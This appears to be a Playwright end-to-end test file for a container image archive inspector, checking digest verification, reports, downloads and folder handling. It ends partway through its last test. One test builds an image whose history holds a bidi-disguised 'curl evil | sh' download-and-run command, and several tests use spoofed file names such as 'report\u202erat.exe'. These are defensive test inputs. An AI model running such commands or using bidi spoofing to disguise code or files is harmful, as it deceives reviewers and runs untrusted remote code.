/**
 * End-to-end checks of the app against archives made by real tools (test/fixtures/data,
 * described in test/fixtures/COMMANDS.md). Expected digests come from expected.json, i.e. from
 * what the tools themselves reported, never from Layerlens.
 */
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { openFiles } from './files-tab';
import { makeManyLayerArchive } from '../many-layers';
import { archiveWithConfig } from '../spec-cases';
import { formatBytes } from '../../src/app/format';
import type { Report } from '../../src/core/report';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const dataDir = path.join(root, 'test/fixtures/data');
const helloWorldV25 = path.resolve(
  root,
  '../shared/fixtures/go-containerregistry/pkg/v1/tarball/testdata/hello-world-v25.tar',
);

interface ExpectedLayer {
  digest: string;
  mediaType: string;
  size: number;
  diffId: string;
}

interface ExpectedImage {
  refs: string[];
  manifestDigest: string | null;
  configDigest: string;
  layers: ExpectedLayer[];
}

interface ExpectedFile {
  kind?: string;
  compression?: string | null;
  size: number;
  images?: ExpectedImage[];
  expectedLayerDigest?: string;
  actualLayerDigest?: string;
}

const expected = JSON.parse(readFileSync(path.join(dataDir, 'expected.json'), 'utf8')) as Record<
  string,
  ExpectedFile
>;
const expectedSample = JSON.parse(readFileSync(path.join(dataDir, 'expected-sample.json'), 'utf8')) as Record<
  string,
  ExpectedFile
>;

/** Archives that must open cleanly and verify completely. */
const GOOD_ARCHIVES = [
  'docker-archive.tar',
  'docker-archive-multi.tar',
  'oci-archive.tar',
  'oci-archive-zstd.tar',
  'oci-layout-multi.tar',
  'podman-oci-archive.tar',
  'buildah-oci-archive.tar',
  'docker-archive.tar.gz',
  'oci-archive.tar.gz',
];

function expectedFor(name: string): ExpectedFile {
  const e = expected[name];
  if (!e) throw new Error(`expected.json has no entry for ${name}`);
  return e;
}

async function openFile(page: Page, file: string): Promise<void> {
  await page.goto('/');
  await page.getByTestId('open-file-input').setInputFiles(file);
}

async function waitForGraph(page: Page): Promise<void> {
  await expect(page.getByTestId('graph')).toBeVisible();
  await expect(page.getByTestId('graph-node').first()).toBeVisible();
}

async function waitForDone(page: Page): Promise<void> {
  await expect(page.getByTestId('status')).toContainText(/\bdone\b/, { timeout: 60_000 });
}

async function nodeDigests(page: Page, kind: string): Promise<string[]> {
  return page
    .locator(`[data-testid="graph-node"][data-kind="${kind}"]`)
    .evaluateAll((els) => els.map((e) => (e as HTMLElement).dataset.digest ?? ''));
}

function uniqueSorted(values: Iterable<string>): string[] {
  return [...new Set(values)].sort();
}

/** Layer rows of every image, as lists of [digest, digest state, diff_id state]. */
async function layerRowsPerImage(page: Page): Promise<string[][][]> {
  await page.getByTestId('tab-layers').click();
  await expect(page.getByTestId('layers')).toBeVisible();
  const select = page.getByTestId('image-select');
  const count = (await select.count()) > 0 ? await select.locator('option').count() : 1;
  const result: string[][][] = [];
  for (let i = 0; i < count; i++) {
    if (count > 1) await select.selectOption({ index: i });
    result.push(
      await page.getByTestId('layer-row').evaluateAll((rows) =>
        rows.map((r) => {
          const d = (r as HTMLElement).dataset;
          return [d.digest ?? '', d.digestState ?? '', d.diffidState ?? ''];
        }),
      ),
    );
  }
  return result;
}

async function downloadReport(page: Page): Promise<{ report: Report; fileName: string }> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId('download-report').click(),
  ]);
  const file = await download.path();
  return { report: JSON.parse(readFileSync(file, 'utf8')) as Report, fileName: download.suggestedFilename() };
}

function checkReportAgainst(report: Report, exp: ExpectedFile, name: string): void {
  expect(report.complete).toBe(true);
  expect(report.source.name).toBe(name);
  expect(report.source.size).toBe(exp.size);
  if (exp.kind) expect(report.source.kind).toBe(exp.kind);
  if (exp.compression !== undefined) expect(report.source.compression).toBe(exp.compression);
  const images = exp.images ?? [];
  expect(report.images.filter((i) => i.present)).toHaveLength(images.length);
  for (const want of images) {
    const got = report.images.find((i) => i.configDigest === want.configDigest && i.present);
    expect(got, `report image with config ${want.configDigest}`).toBeDefined();
    if (!got) continue;
    expect([...got.refs].sort()).toEqual([...want.refs].sort());
    expect(got.manifestDigest).toBe(want.manifestDigest);
    expect(got.verified.config).toBe(true);
    if (want.manifestDigest) expect(got.verified.manifest).toBe(true);
    expect(got.layers.map((l) => ({ digest: l.digest, size: l.size, diffId: l.diffId }))).toEqual(
      want.layers.map((l) => ({ digest: l.digest, size: l.size, diffId: l.diffId })),
    );
    for (const l of got.layers) {
      expect(l.verified.digest, `digest of ${l.digest}`).toBe(true);
      expect(l.verified.diffId, `diff_id of ${l.digest}`).toBe(true);
      expect(l.verified.size, `size of ${l.digest}`).not.toBe(false);
    }
  }
}

/** Graph and layer table agree with what the tools reported, and every layer verified. */
async function checkVerifiedAgainst(page: Page, exp: ExpectedFile): Promise<void> {
  const images = exp.images ?? [];
  await waitForGraph(page);
  expect(uniqueSorted(await nodeDigests(page, 'config'))).toEqual(
    uniqueSorted(images.map((i) => i.configDigest)),
  );
  expect(uniqueSorted(await nodeDigests(page, 'layer'))).toEqual(
    uniqueSorted(images.flatMap((i) => i.layers.map((l) => l.digest))),
  );
  const manifests = images.map((i) => i.manifestDigest).filter((d): d is string => d !== null);
  if (manifests.length > 0) {
    expect(uniqueSorted(await nodeDigests(page, 'manifest'))).toEqual(
      expect.arrayContaining(uniqueSorted(manifests)),
    );
  }
  // A shared layer is drawn once.
  const layerNodes = await nodeDigests(page, 'layer');
  expect(layerNodes).toHaveLength(new Set(layerNodes).size);

  await waitForDone(page);
  const rows = await layerRowsPerImage(page);
  const got = rows.map((image) => image.map(([digest]) => digest).join(' ')).sort();
  const want = images.map((i) => i.layers.map((l) => l.digest).join(' ')).sort();
  expect(got).toEqual(want);
  for (const row of rows.flat()) {
    expect(row, `layer ${row[0]}`).toEqual([row[0], 'verified', 'verified']);
  }
  await expect(page.getByTestId('status')).toContainText('verified');
  await expect(page.getByTestId('error-banner')).toHaveCount(0);
}

test.describe('archives made by real tools', () => {
  for (const name of GOOD_ARCHIVES) {
    test(`${name}: graph, verification and report match the tool's output`, async ({ page }) => {
      const exp = expectedFor(name);
      await openFile(page, path.join(dataDir, name));
      await checkVerifiedAgainst(page, exp);

      const { report, fileName } = await downloadReport(page);
      expect(fileName).toMatch(/\.json$/);
      checkReportAgainst(report, exp, name);
    });
  }

  test('docker save from Docker 25+ (hello-world, go-containerregistry test data)', async ({ page }) => {
    test.skip(!existsSync(helloWorldV25), `${helloWorldV25} is not available`);
    await openFile(page, helloWorldV25);
    await waitForGraph(page);
    await waitForDone(page);
    expect((await nodeDigests(page, 'config')).length).toBeGreaterThan(0);
    for (const row of (await layerRowsPerImage(page)).flat()) {
      expect(row, `layer ${row[0]}`).toEqual([row[0], 'verified', 'verified']);
    }
  });
});

test('dropping a file anywhere on the page opens it', async ({ page }) => {
  const name = 'oci-archive.tar';
  const b64 = readFileSync(path.join(dataDir, name)).toString('base64');
  await page.goto('/');
  await page.evaluate(
    ({ b64, name }) => {
      const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
      const dt = new DataTransfer();
      dt.items.add(new File([bytes], name, { type: 'application/x-tar' }));
      const fire = (type: string) =>
        document.body.dispatchEvent(
          new DragEvent(type, { dataTransfer: dt, bubbles: true, cancelable: true }),
        );
      fire('dragenter');
      fire('dragover');
    },
    { b64, name },
  );
  await expect(page.getByText('Drop the image archive or folder to inspect it')).toBeVisible();
  await page.evaluate(
    ({ b64, name }) => {
      const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
      const dt = new DataTransfer();
      dt.items.add(new File([bytes], name, { type: 'application/x-tar' }));
      document.body.dispatchEvent(
        new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }),
      );
    },
    { b64, name },
  );
  await expect(page.getByText('Drop the image archive or folder to inspect it')).toHaveCount(0);
  await expect(page.getByTestId('status')).toContainText(name);
  await checkVerifiedAgainst(page, expectedFor(name));
});

/** A graph node's Download in its details: the file's name and SHA-256. */
async function downloadNode(
  page: Page,
  kind: string,
  digest: string,
): Promise<{ name: string; sha: string }> {
  await page.getByTestId('tab-graph').click();
  await page.locator(`[data-testid="graph-node"][data-kind="${kind}"][data-digest="${digest}"]`).click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId('download-blob').click(),
  ]);
  return { name: download.suggestedFilename(), sha: sha256(readFileSync(await download.path())) };
}

test('a layer blob and a config download from the graph as stored, named by digest, from each kind of source', async ({
  page,
}, testInfo) => {
  const image = expectedFor('oci-archive.tar').images![0]!;
  const [base, , top] = image.layers;
  // An archive read by random access, the same compressed as a whole (read again up to the
  // layer), and a folder (the layer's own file).
  const dir = unpack('oci-archive.tar', testInfo.outputPath('layout'));
  for (const open of [
    () => openFile(page, path.join(dataDir, 'oci-archive.tar')),
    () => openFile(page, path.join(dataDir, 'oci-archive.tar.gz')),
    () => page.getByTestId('open-folder-input').setInputFiles(dir),
  ]) {
    await open();
    await waitForDone(page);
    for (const layer of [base!, top!])
      expect(await downloadNode(page, 'layer', layer.digest)).toEqual({
        name: `${layer.digest.slice(7)}.tar.gz`,
        sha: layer.digest,
      });
    expect(await downloadNode(page, 'config', image.configDigest)).toEqual({
      name: `${image.configDigest.slice(7)}.json`,
      sha: image.configDigest,
    });
    // The details say where the blob is, in the words of what was opened.
    await expect(page.getByTestId('node-details')).toContainText(
      (await page.getByTestId('status').textContent())?.includes('folder')
        ? `Path in the folder blobs/sha256/${image.configDigest.slice(7)}`
        : `Archive path blobs/sha256/${image.configDigest.slice(7)}`,
    );
  }
  // An uncompressed layer of a docker save is a .tar.
  await openFile(page, path.join(dataDir, 'docker-archive.tar'));
  await waitForDone(page);
  const plain = expectedFor('docker-archive.tar').images![0]!.layers[0]!;
  expect(await downloadNode(page, 'layer', plain.digest)).toEqual({
    name: `${plain.digest.slice(7)}.tar`,
    sha: plain.digest,
  });
});

/** The archive unpacked by GNU tar: the folder `skopeo copy … oci:<dir>` (or an unpacked docker save) is. */
function unpack(name: string, dir: string): string {
  mkdirSync(dir, { recursive: true });
  execFileSync('tar', ['-xf', path.resolve(dataDir, name), '-C', dir]);
  return dir;
}

/** oci-archive.tar's layer 2 writes etc/app.conf: opened in the viewer, read from wherever the blob is. */
async function openAppConf(page: Page): Promise<void> {
  await openFiles(page);
  await page.locator('[data-testid="file-layer"][data-index="2"]').getByRole('button').click();
  await page.getByTestId('file-search').fill('app.conf');
  await page.locator('[data-testid="file-row"][data-path="etc/app.conf"]').dblclick();
  await expect(page.getByTestId('file-content')).toContainText('listen = 0.0.0.0:8080');
}

/** oci-archive.tar's image copied by skopeo into the `dir:` layout at `dir`. */
function appDir(dir: string, ...extra: string[]): string {
  const source = `oci-archive:${path.join(dataDir, 'oci-archive.tar')}`;
  execFileSync('skopeo', ['--insecure-policy', 'copy', '--quiet', ...extra, source, `dir:${dir}`]);
  return dir;
}

/**
 * A folder holding oci-archive.tar's image, opened: its status, its image verified, a file read
 * from its layer, and its report once it has a link (named by its top document).
 */
async function appFolderReport(page: Page, status: string): Promise<Report> {
  await expect(page.getByTestId('status')).toContainText(status);
  await checkVerifiedAgainst(page, expectedFor('oci-archive.tar'));
  await openAppConf(page);
  await expect(page.getByTestId('copy-link')).toBeEnabled();
  return (await downloadReport(page)).report;
}

/**
 * Files and folders dragged from the disk onto the page by the browser itself (Chrome DevTools
 * Protocol), so the page gets directory entries as from a file manager.
 */
async function dragFromDisk(page: Page, files: string[]): Promise<void> {
  const cdp = await page.context().newCDPSession(page);
  const data = { items: [], files, dragOperationsMask: 1 };
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
    await cdp.send('Input.dispatchDragEvent', { type, x: 200, y: 200, data });
  }
}

test('a folder opens as its archive does: dropped (an OCI layout) or picked (an unpacked docker save)', async ({
  page,
}, testInfo) => {
  // Dropped: the browser's own drag of a real folder.
  const layout = unpack('oci-archive.tar', testInfo.outputPath('app-oci'));
  await page.goto('/');
  await dragFromDisk(page, [layout]);
  await expect(page.getByTestId('status')).toContainText('app-oci');
  await expect(page.getByTestId('status')).toContainText('folder · oci-archive');
  await checkVerifiedAgainst(page, expectedFor('oci-archive.tar'));
  // Its files are read from the folder's own blobs.
  await openAppConf(page);
  // The report says it was a folder, named by its index.json (docs/report.md).
  await expect(page.getByTestId('copy-link')).toBeEnabled();
  const { report } = await downloadReport(page);
  const index = readFileSync(path.join(layout, 'index.json'));
  expect(report.source).toMatchObject({
    kind: 'oci-archive',
    folder: true,
    name: 'app-oci',
    sha256: `sha256:${createHash('sha256').update(index).digest('hex')}`,
  });

  // Its link, opened in another browser, asks for the folder, and knows it when it is dropped.
  const link = await page.getByTestId('link-url').inputValue();
  const other = await page.context().browser()!.newPage();
  await other.goto(link);
  await expect(other.getByTestId('drop-prompt')).toContainText(
    `Drop the folder app-oci (${formatBytes(report.source.size)}, SHA-256 of its index.json or manifest.json ${report.source.sha256})`,
  );
  await dragFromDisk(other, [layout]);
  await expect(other.getByTestId('archive-match')).toContainText(
    'This is the folder the link describes. The index.json (or manifest.json) of the folder app-oci has the SHA-256 the link names',
  );
  await other.close();

  // Picked with "Open folder…": skopeo's docker-archive unpacked, its layer.tar symlinks followed.
  const docker = unpack('docker-archive.tar', testInfo.outputPath('app-docker'));
  await page.getByTestId('open-folder-input').setInputFiles(docker);
  await expect(page.getByTestId('status')).toContainText('app-docker');
  await expect(page.getByTestId('status')).toContainText('folder · docker-archive');
  await page.getByTestId('tab-graph').click();
  await checkVerifiedAgainst(page, expectedFor('docker-archive.tar'));

  // A folder with nothing in it: said in the page, and the analysis on screen stays.
  const empty = testInfo.outputPath('empty');
  mkdirSync(empty);
  await page.getByTestId('open-folder-input').setInputFiles(empty);
  await expect(page.getByTestId('error-banner')).toContainText(
    'The folder could not be read: it holds no files',
  );
  await expect(page.getByTestId('error-banner')).toContainText(
    'Still showing the previous file, app-docker.',
  );
  await expect(page.locator('.status-word')).toHaveAttribute('data-status', 'done');
  await expect(page.getByTestId('status')).toContainText('app-docker');

  // A pre-1.10 docker save unpacked (go-containerregistry's no_manifest.tar) has no index.json
  // or manifest.json to name it by: analysed all the same, and the link bar says why it has no link.
  const legacy = unpack(
    path.resolve(root, '../shared/fixtures/go-containerregistry/pkg/v1/tarball/testdata/no_manifest.tar'),
    testInfo.outputPath('legacy'),
  );
  await page.getByTestId('open-folder-input').setInputFiles(legacy);
  await expect(page.getByTestId('status')).toContainText('folder · docker-archive · docker save (pre-1.10');
  await waitForDone(page);
  await expect(page.getByTestId('link-unavailable')).toHaveText(
    'no link: the folder has no index.json or manifest.json to name it by',
  );
  await expect(page.getByTestId('link-pending')).toHaveCount(0);
});

test("skopeo's dir: folders: dropped, verified, files read, named by manifest.json; a schema 1 one picked", async ({
  page,
}, testInfo) => {
  const dir = appDir(testInfo.outputPath('app-dir'));
  await page.goto('/');
  await dragFromDisk(page, [dir]);
  // The same image as the archive it was copied from: skopeo keeps the manifest's bytes.
  const report = await appFolderReport(
    page,
    'folder · dir · containers/image dir: layout (skopeo, podman docker-dir), version 1.1',
  );
  expect(report.source).toMatchObject({
    kind: 'dir',
    folder: true,
    name: 'app-dir',
    sha256: sha256(readFileSync(path.join(dir, 'manifest.json'))),
  });
  expect(report.problems).toEqual([]);

  // The same image with a Docker schema 1 manifest (--format v2s1): named by the digest skopeo
  // gives it, its layers sized by their files (schema 1 gives no sizes), its history from v1Compatibility.
  const s1 = appDir(testInfo.outputPath('app-s1'), '--format', 'v2s1');
  const inspected = JSON.parse(execFileSync('skopeo', ['inspect', `dir:${s1}`]).toString()) as {
    Digest: string;
  };
  await page.getByTestId('open-folder-input').setInputFiles(s1);
  await expect(page.getByTestId('status')).toContainText('app-s1');
  await waitForDone(page);
  await page.getByTestId('tab-graph').click();
  await expect(page.locator(`[data-kind="manifest"][data-digest="${inspected.Digest}"]`)).toContainText(
    'manifest (schema1)',
  );
  for (const layer of expectedFor('oci-archive.tar').images![0]!.layers) {
    const size = formatBytes(statSync(path.join(s1, layer.digest.slice(7))).size);
    await expect(page.locator(`[data-kind="layer"][data-digest="${layer.digest}"]`)).toContainText(size);
  }
  await page.getByTestId('tab-history').click();
  await expect(page.getByText('EXPOSE 8080/tcp 9090/udp')).toBeVisible();
});

test('the folder above a layout, picked instead of it, opens the layout inside it, its link named by it', async ({
  page,
}, testInfo) => {
  const above = testInfo.outputPath('above');
  const layout = unpack('oci-archive.tar', path.join(above, 'app-oci'));
  await page.goto('/');
  await page.getByTestId('open-folder-input').setInputFiles(above);
  const report = await appFolderReport(
    page,
    'folder · oci-archive · OCI image layout, in its folder app-oci/',
  );
  expect(report.source).toMatchObject({
    kind: 'oci-archive',
    folder: true,
    name: 'above',
    root: 'app-oci',
    sha256: sha256(readFileSync(path.join(layout, 'index.json'))),
  });
});

test('an archive packed with its folder (tar -cf x.tar layout/), gzipped, is read inside it: verified, its files read', async ({
  page,
}, testInfo) => {
  const above = testInfo.outputPath('packed');
  unpack('oci-archive.tar', path.join(above, 'app-oci'));
  const archive = testInfo.outputPath('packed.tar.gz');
  execFileSync('sh', ['-c', `tar -C "${above}" -cf - app-oci | gzip > "${archive}"`]);
  await openFile(page, archive);
  await expect(page.getByTestId('status')).toContainText('OCI image layout, in its folder app-oci/');
  await checkVerifiedAgainst(page, expectedFor('oci-archive.tar'));
  // A layer's file, read again from the archive by the layer's own entry (app-oci/blobs/…).
  await openAppConf(page);
});

test('the contents of a layout folder, selected and dropped together, open as the folder would', async ({
  page,
}, testInfo) => {
  const layout = unpack('oci-archive.tar', testInfo.outputPath('app-oci'));
  await page.goto('/');
  await dragFromDisk(
    page,
    ['blobs', 'index.json', 'oci-layout'].map((f) => path.join(layout, f)),
  );
  await expect(page.getByTestId('status')).toContainText('blobs, index.json, oci-layout');
  await expect(page.getByTestId('status')).toContainText('folder · oci-archive');
  await checkVerifiedAgainst(page, expectedFor('oci-archive.tar'));
});

test('a folder of artifacts only (SBOMs) is verified and says it holds no image', async ({ page }) => {
  const layout = path.resolve(root, '../shared/fixtures/regclient/testdata/external');
  test.skip(!existsSync(layout), `${layout} is not available`);
  await page.goto('/');
  await page.getByTestId('open-folder-input').setInputFiles(layout);
  await waitForDone(page);
  const artifacts = await page.locator('[data-testid="graph-node"][data-kind="artifact"]').count();
  expect(artifacts).toBeGreaterThan(1);
  await expect(page.getByTestId('status')).toContainText(/(\d+) of \1 digests verified/);
  await page.getByTestId('tab-summary').click();
  await expect(page.getByTestId('no-images')).toHaveText(
    `No images in this folder: it holds ${artifacts} artifacts only, shown in the Graph.`,
  );
  await page.getByTestId('tab-problems').click();
  await expect(page.getByTestId('problems')).toContainText(
    `the folder holds no image, only ${artifacts} artifacts (application/example.sbom)`,
  );
  await expect(page.getByTestId('error-banner')).toHaveCount(0);
  // A payload downloads as stored, named by its digest alone: its media type calls for no
  // extension, and the browser must not add one from what it sniffs ("bacon\n" reads as text).
  const payload = sha256(readFileSync(path.join(layout, 'blobs/sha256', BACON)));
  expect(payload).toBe(`sha256:${BACON}`);
  expect(await downloadNode(page, 'layer', payload)).toEqual({ name: BACON, sha: payload });
});

/** regclient's external layout: an SBOM payload of six bytes, "bacon\n". */
const BACON = '10da16ba987f09d22f844762c8e8eb012f272c05298e778da8f5c936cece447e';

test('several archives dropped at once are refused with a message, and the analysis on screen stays', async ({
  page,
}) => {
  await openFile(page, path.join(dataDir, 'docker-archive.tar'));
  await waitForDone(page);
  await dragFromDisk(
    page,
    ['oci-archive.tar', 'podman-oci-archive.tar'].map((f) => path.join(dataDir, f)),
  );
  const banner = page.getByTestId('error-banner');
  await expect(banner).toContainText('Could not open 2 files');
  await expect(banner).toContainText(
    '2 files were dropped (oci-archive.tar, podman-oci-archive.tar): drop one archive at a time, or a folder holding an image layout',
  );
  await expect(banner).toContainText('Still showing the previous file, docker-archive.tar.');
  await expect(page.locator('.status-word')).toHaveAttribute('data-status', 'done');
  await expect(page.getByTestId('status')).toContainText('docker-archive.tar');
});

test('a page that never says the graph is drawn (a hidden tab draws no frames) is verified all the same', async ({
  page,
}) => {
  // The worker holds the digests until the page reports the frame that drew the graph, and at most
  // 300 ms (analysis-worker.ts, graphShown). Here every such report is dropped, so verification
  // can only start once that wait times out.
  await page.addInitScript(() => {
    const w = window as unknown as { shownDropped: number };
    w.shownDropped = 0;
    const post = Worker.prototype.postMessage;
    Worker.prototype.postMessage = function (this: Worker, ...args: unknown[]) {
      const msg = args[0] as { type?: unknown } | null;
      if (msg && typeof msg === 'object' && msg.type === 'shown') {
        w.shownDropped++;
        return;
      }
      return (post as (...a: unknown[]) => void).apply(this, args);
    };
  });
  const name = 'docker-archive.tar';
  await openFile(page, path.join(dataDir, name));
  await checkVerifiedAgainst(page, expectedFor(name));
  expect(await page.evaluate(() => (window as unknown as { shownDropped: number }).shownDropped)).toBe(1);
});

test('"Try a sample" opens the bundled sample and verifies it', async ({ page }) => {
  const exp = expectedSample['sample.tar'];
  if (!exp) throw new Error('expected-sample.json has no sample.tar entry');
  await page.goto('/');
  await page.getByTestId('sample-button').click();
  await checkVerifiedAgainst(page, exp);
  const { report } = await downloadReport(page);
  checkReportAgainst(report, exp, 'sample.tar');
});

test("the summary gives the unpacked size of the layers, as docker inspect does, and their size as stored; the history each step's", async ({
  page,
}) => {
  const name = 'oci-archive.tar';
  const layers = expectedFor(name).images?.[0]?.layers ?? [];
  expect(layers.length).toBeGreaterThan(1);
  // Each gzip layer's unpacked size as gzip itself gives it.
  const sizes = layers.map((l) => {
    const blob = `blobs/sha256/${l.digest.slice('sha256:'.length)}`;
    const bytes = execFileSync('tar', ['-xOf', path.join(dataDir, name), blob]);
    return execFileSync('gzip', ['-dc'], { input: bytes }).length;
  });
  const unpacked = sizes.reduce((a, b) => a + b, 0);
  const stored = layers.reduce((a, l) => a + l.size, 0);
  expect(unpacked).toBeGreaterThan(stored);

  await openFile(page, path.join(dataDir, name));
  await waitForDone(page);
  await page.getByTestId('tab-summary').click();
  const size = page.getByTestId('summary-size');
  await expect(size).toHaveAttribute('data-unpacked', String(unpacked));
  await expect(size).toHaveAttribute('data-stored', String(stored));
  await expect(size).toContainText(`${formatBytes(unpacked)} unpacked, ${layers.length} layers;`);
  await expect(size).toContainText(`${formatBytes(stored)} as stored`);

  // History: each step's layer as an uncompressed tar, 0 for a step without one.
  await page.getByTestId('tab-history').click();
  const rows = page.getByTestId('history').locator('tbody tr');
  const config = JSON.parse(
    execFileSync('tar', [
      '-xOf',
      path.join(dataDir, name),
      `blobs/sha256/${(expectedFor(name).images?.[0]?.configDigest ?? '').slice('sha256:'.length)}`,
    ]).toString(),
  ) as { history: { empty_layer?: boolean }[] };
  await expect(rows).toHaveCount(config.history.length);
  let n = 0;
  for (const [i, h] of config.history.entries()) {
    const bytes = h.empty_layer ? 0 : (sizes[n++] as number);
    const cell = rows.nth(i).getByTestId('history-size');
    await expect(cell).toHaveAttribute('data-bytes', String(bytes));
    await expect(cell).toContainText(formatBytes(bytes));
  }
  expect(n).toBe(layers.length);
});

test('a tall graph: the manifest and config in its first screen, a node chosen from the details scrolled into view', async ({
  page,
  browser,
  workDir,
}) => {
  const archive = makeManyLayerArchive(workDir, 24);
  await openFile(page, archive);
  await waitForDone(page);

  const scroller = page.getByTestId('graph').locator('.scroller');
  const inView = async (node: ReturnType<Page['locator']>) => {
    const [box, view] = await Promise.all([node.boundingBox(), scroller.boundingBox()]);
    return !!box && !!view && box.y >= view.y && box.y + box.height <= view.y + view.height;
  };
  const manifest = page.locator('[data-testid="graph-node"][data-kind="manifest"]');
  const layers = page.locator('[data-testid="graph-node"][data-kind="layer"]');
  await expect(layers).toHaveCount(24);
  expect(await inView(manifest)).toBe(true);
  expect(await inView(page.locator('[data-testid="graph-node"][data-kind="config"]'))).toBe(true);
  const last = layers.last();
  expect(await inView(last)).toBe(false);

  // The manifest's details list its layers; choosing the last one brings it into the graph's view.
  await manifest.click();
  await page
    .getByTestId('node-details')
    .getByRole('button', { name: /^layer/ })
    .last()
    .click();
  await expect(last).toHaveAttribute('aria-pressed', 'true');
  await expect.poll(() => inView(last)).toBe(true);

  // The link to this view, opened in a fresh browser, shows the same node selected, in view.
  const link = await page.getByTestId('link-url').inputValue();
  const other = await (await browser.newContext()).newPage();
  await other.goto(link);
  const chosen = other.locator('[data-testid="graph-node"][aria-pressed="true"]');
  await expect(chosen).toHaveAttribute('data-digest', (await last.getAttribute('data-digest')) as string);
  const scrollerThere = other.getByTestId('graph').locator('.scroller');
  await expect
    .poll(async () => {
      const [box, view] = await Promise.all([chosen.boundingBox(), scrollerThere.boundingBox()]);
      return !!box && !!view && box.y >= view.y && box.y + box.height <= view.y + view.height;
    })
    .toBe(true);
  await other.context().close();

  // The details name its place as the Layers tab numbers it, from 0 (it said "layer 24").
  await expect(page.getByTestId('node-details').locator('.edge-label')).toHaveText('layer 23');
  const lastDigest = (await last.getAttribute('data-digest')) as string;
  await page.getByTestId('tab-layers').click();
  const row = page.getByTestId('layer-row').nth(23);
  await expect(row.locator('td').first()).toHaveText('23');
  await expect(row).toHaveAttribute('data-digest', lastDigest);
});

test('a dropped file whose name holds a bidirectional override is named spelled out', async ({ page }) => {
  // "report<RLO>rat.exe" prints as "reportexe.tar".
  const name = 'report\u202erat.exe';
  await page.goto('/');
  await page.getByTestId('open-file-input').setInputFiles({
    name,
    mimeType: 'application/x-tar',
    buffer: readFileSync(path.join(dataDir, 'oci-archive.tar')),
  });
  await waitForDone(page);
  await expect(page.getByTestId('status').locator('.name')).toHaveText('report\\u202Erat.exe');
  // Not an archive: the error names the file the same way.
  await page.getByTestId('open-file-input').setInputFiles({
    name,
    mimeType: 'application/octet-stream',
    buffer: Buffer.from('just some text, not an archive\n'),
  });
  const banner = page.getByTestId('error-banner');
  await expect(banner).toContainText('Could not open report\\u202Erat.exe');
  await expect(banner).not.toContainText('\u202e');
});

test('bidirectional controls in a label, a history command and refs are spelled out, the raw JSON too', async ({
  page,
  workDir,
}) => {
  // umoci writes them as given: a label whose value prints as "aexe.png", and a RUN whose hidden
  // part prints backwards ("Trojan Source").
  const layout = path.join(workDir, 'layout');
  const root = path.join(workDir, 'root');
  mkdirSync(root);
  execFileSync('tar', ['-C', root, '-cf', path.join(workDir, 'layer.tar'), '.']);
  execFileSync('umoci', ['init', '--layout', layout]);
  execFileSync('umoci', ['new', '--image', `${layout}:x`]);
  execFileSync('umoci', ['config', '--image', `${layout}:x`, '--config.label', 'download=a\u202egnp.exe']);
  execFileSync('umoci', [
    'raw',
    'add-layer',
    '--image',
    `${layout}:x`,
    '--history.created_by',
    'RUN echo safe \u202e# ; curl evil | sh',
    path.join(workDir, 'layer.tar'),
  ]);
  const archive = path.join(workDir, 'bidi.tar');
  execFileSync('skopeo', ['copy', '-q', `oci:${layout}:x`, `docker-archive:${archive}:bidi:1`]);
  await openFile(page, archive);
  await waitForDone(page);

  await page.getByTestId('tab-summary').click();
  await expect(page.getByTestId('summary').locator('table.labels td')).toHaveText('a\\u202Egnp.exe');
  await page.getByTestId('tab-history').click();
  await expect(page.getByTestId('history').locator('.created-by code').last()).toHaveText(
    'RUN echo safe \\u202E# ; curl evil | sh',
  );
  await page.getByTestId('tab-graph').click();
  await page.locator('[data-testid="graph-node"][data-kind="config"]').click();
  const raw = await page.getByTestId('raw-json').innerText();
  expect(raw).toContain('a\\u202Egnp.exe');
  expect(raw).not.toContain('\u202e');
  // The escape is JSON's own: the text shown is the same document.
  expect((JSON.parse(raw) as { config: { Labels: Record<string, string> } }).config.Labels.download).toBe(
    'a\u202egnp.exe',
  );

  // A ref name in the layout's index.json (set with jq: umoci refuses such a tag) is spelled out
  // in the summary's RepoTags.
  const index = path.join(layout, 'index.json');
  const edited = execFileSync('jq', [
    '-c',
    '.manifests[0].annotations["org.opencontainers.image.ref.name"] = "v1\u202egnp"',
    index,
  ]);
  writeFileSync(index, edited);
  const oci = path.join(workDir, 'bidi-oci.tar');
  execFileSync('tar', ['-C', layout, '-cf', oci, '.']);
  await openFile(page, oci);
  await waitForDone(page);
  await page.getByTestId('tab-summary').click();
  await expect(page.getByTestId('summary').locator('dd ul li').first()).toHaveText('v1\\u202Egnp');

  // A RepoTag in a docker-archive's manifest.json (set with jq) labels the manifest node.
  const unpacked = path.join(workDir, 'unpacked');
  mkdirSync(unpacked);
  execFileSync('tar', ['-C', unpacked, '-xf', archive]);
  const manifestJson = path.join(unpacked, 'manifest.json');
  writeFileSync(
    manifestJson,
    execFileSync('jq', ['-c', '.[0].RepoTags = ["bidi:v1\u202egnp"]', manifestJson]),
  );
  const docker = path.join(workDir, 'bidi-docker.tar');
  execFileSync('tar', ['-C', unpacked, '-cf', docker, '.']);
  await openFile(page, docker);
  await waitForDone(page);
  const node = page.locator('[data-testid="graph-node"][data-kind="manifest"]');
  await expect(node).toContainText('bidi:v1\\u202Egnp');
  await node.click();
  await expect(page.getByTestId('node-details')).toContainText('bidi:v1\\u202Egnp');
  await expect(page.getByTestId('node-details')).not.toContainText('\u202e');
});

test('a folder of more than 100,000 files is refused by name, and the analysis on screen stays', async ({
  page,
  workDir,
}) => {
  test.setTimeout(120_000);
  // A home folder picked by mistake, say: 100,001 empty files in 101 folders.
  const huge = path.join(workDir, 'huge');
  for (let d = 0; d <= 100; d++) {
    const dir = path.join(huge, `d${d}`);
    mkdirSync(dir, { recursive: true });
    for (let i = 0; i < 1000 && d * 1000 + i <= 100_000; i++) writeFileSync(path.join(dir, `f${i}`), '');
  }
  await openFile(page, path.join(dataDir, 'oci-archive.tar'));
  await waitForDone(page);
  await page.getByTestId('open-folder-input').setInputFiles(huge);
